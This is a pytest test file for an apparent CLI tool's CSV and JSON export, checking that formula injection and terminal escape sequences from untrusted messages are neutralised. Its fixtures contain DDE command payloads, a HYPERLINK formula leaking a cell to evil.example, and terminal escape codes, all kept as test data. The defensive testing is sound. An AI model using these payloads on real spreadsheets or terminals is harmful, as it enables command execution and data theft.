"""`listen export --format csv` of hostile items: inert in a terminal, no formulas in a spreadsheet,
while json and jsonl keep the data exact (they round-trip through `listen import`)."""

from __future__ import annotations

import csv
import io
import json
import time

import pytest

from listen.export import COLUMNS, STRANGER_COLUMNS, csv_cell
from tests.helpers import jsonl, listen_here, write_config

NOW = int(time.time())
ESC_TITLE = "\x1b]0;pwned\x07"  # OSC: sets the terminal's title
CLEAR = "\x1b[2J\x1b[H"  # clears the screen
CSI_C1 = "\x9b31m"  # the one-byte C1 CSI


@pytest.fixture
def hostile(tmp_path):
    jsonl(tmp_path / "m.jsonl", [
        {"id": "1", "author": "=cmd|' /C calc'!A0", "author_name": "@SUM(1+1)*cmd|' /C calc'!A0",
         "text": '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "created_at": NOW - 7200,
         "url": "=1+1", "title": "+SUM(A1:A9)"},
        {"id": "2", "author": "bea", "author_name": "-2+3+cmd|' /C calc'!A0",
         "text": f"broken{ESC_TITLE}{CLEAR}again{CSI_C1}red\x07\x00 line\r\nnext\tcolumn", "created_at": NOW - 3600},
        {"id": "-12", "author": "\tTAB", "text": "-5", "created_at": NOW - 600},
    ])
    cfg = write_config(tmp_path / "listen.toml", [{"name": "ex", "type": "jsonl", "path": "m.jsonl"}],
                       extra='[store]\npath = "l.db"\n[inbox]\nmax_age = "3650d"\n')
    assert listen_here("--config", str(cfg), "pull").returncode == 0
    return cfg


def rows(cfg) -> tuple[str, list[dict[str, str]]]:
    r = listen_here("--config", str(cfg), "export", "--format", "csv")
    assert r.returncode == 0, r.stderr
    return r.stdout, list(csv.DictReader(io.StringIO(r.stdout)))


def test_csv_carries_no_terminal_controls(hostile):
    out, recs = rows(hostile)
    for bad in ("\x1b", "\x07", "\x00", "\x9b", "\r"):
        assert bad not in out.replace("\r\n", "\n"), repr(bad)  # csv ends its rows in CRLF: our own
    bea = next(r for r in recs if r["author"] == "bea")
    # shown the way the inbox shows them (listen.text.inert); newline and tab kept as data
    assert bea["text"] == "broken^[]0;pwned^G^[[2J^[[Hagain<U+009B>31mred^G^@ line\nnext\tcolumn"


def test_csv_cells_from_strangers_never_start_a_formula(hostile):
    _, recs = rows(hostile)
    one = next(r for r in recs if r["native_id"] == "1")
    assert one["author"] == "'=cmd|' /C calc'!A0"
    assert one["author_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert one["text"] == "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"
    assert one["url"] == "'=1+1"
    assert one["title"] == "'+SUM(A1:A9)"
    bea = next(r for r in recs if r["author"] == "bea")
    assert bea["author_name"] == "'-2+3+cmd|' /C calc'!A0"
    last = next(r for r in recs if r["native_id"] == "-12")  # a plain number is no formula: left as it is
    assert last["text"] == "-5" and last["author"] == "'\tTAB"
    for r in recs:
        for c in STRANGER_COLUMNS:
            assert not r[c].startswith(("=", "+", "@", "\t", "\r")), (c, r[c])


def test_json_and_jsonl_keep_the_text_exact(hostile):
    for fmt in ("jsonl", "json"):
        out = listen_here("--config", str(hostile), "export", "--format", fmt).stdout
        assert "\x1b" not in out and "\x07" not in out  # JSON escapes them
        recs = [json.loads(x) for x in out.splitlines()] if fmt == "jsonl" else json.loads(out)
        bea = next(r for r in recs if r["author"] == "bea")
        assert bea["text"].startswith(f"broken{ESC_TITLE}{CLEAR}again{CSI_C1}")
        assert next(r for r in recs if r["native_id"] == "1")["text"].startswith("=HYPERLINK(")


@pytest.mark.parametrize("column,value,cell", [
    ("text", "=1+1", "'=1+1"),
    ("text", "+1", "'+1"),
    ("text", "-1+1", "'-1+1"),
    ("text", "@x", "'@x"),
    ("text", "\t=1", "'\t=1"),
    ("text", "\r=1", "^M=1"),  # CR shown, so no longer a formula
    ("text", "-3.5", "-3.5"),
    ("text", "a=1", "a=1"),
    ("text", "", ""),
    ("reasons", ["=evil", "asks: '?'"], "'=evil; asks: '?'"),
    ("question_score", -0.25, -0.25),  # our numbers stay numbers
    ("waiting_seconds", None, ""),
    ("ours", True, "true"),
    ("feed", "support", "support"),
    ("created_at", "2026-02-01T23:40:00+00:00", "2026-02-01T23:40:00+00:00"),
    ("text", "a\x1b[31mb\x85c\x7f", "a^[[31mb<U+0085>c<U+007F>"),
    ("text", "a\u202eb\u200dc", "a\u202eb\u200dc"),  # not controls: data, kept
])
def test_csv_cell(column, value, cell):
    assert column in COLUMNS
    assert csv_cell(column, value) == cell
